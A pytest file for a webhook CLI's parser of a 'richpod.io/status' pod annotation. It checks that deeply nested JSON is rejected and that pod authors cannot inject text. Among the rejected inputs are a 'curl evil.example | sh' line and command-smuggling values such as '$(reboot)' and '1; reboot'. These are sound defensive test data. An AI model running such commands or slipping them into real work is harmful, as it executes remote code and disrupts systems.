"""What a pod says that richpod did: its author can write it, too."""

import json

import pytest

from webhook.cli.mark import status

DEEP = '{"verdicts":' * 1015 + "1" + "}" * 1015
"""Printing it would need more of the stack than there is."""


@pytest.mark.parametrize("written", ["", "[]", "{}", '{"verdicts": []}', DEEP, f'{{"verdicts": {{}}, "version": {DEEP}}}'])
def test_r55_what_only_looks_like_a_mark_is_none(written: str) -> None:
    assert status({"annotations": {"richpod.io/status": written}}) is None


def test_a_mark_is_words() -> None:
    assert status({"annotations": {"richpod.io/status": '{"verdicts": {"init": "applied"}}'}}) == {
        "verdicts": {"init": "applied"}
    }


def test_features_profiles_and_versions_that_are_not_known_here_are_read() -> None:
    said = {
        "version": "0.2.0-rc.1+b",
        "profile": "web-1",
        "policy": "0a1b",
        "verdicts": {"ssh": "adapted: runtime:gvisor; applied"},
    }
    assert status({"annotations": {"richpod.io/status": json.dumps(said)}}) == said


@pytest.mark.parametrize(
    "said",
    [
        {"verdicts": {"to change": "applied"}},
        {"verdicts": {"init": "curl evil.example | sh"}},
        {"verdicts": {"init": "applied: $(reboot)"}},
        {"verdicts": {"init": "applied, to change: reboot"}},
        {"verdicts": {}, "version": "1; reboot"},
        {"verdicts": {}, "profile": "to change: reboot"},
        {"verdicts": {}, "policy": "a" * 65},
    ],
)
def test_r55_no_author_of_a_pod_gives_advice_in_our_name(said: dict[str, object]) -> None:
    assert status({"annotations": {"richpod.io/status": json.dumps(said)}}) is None
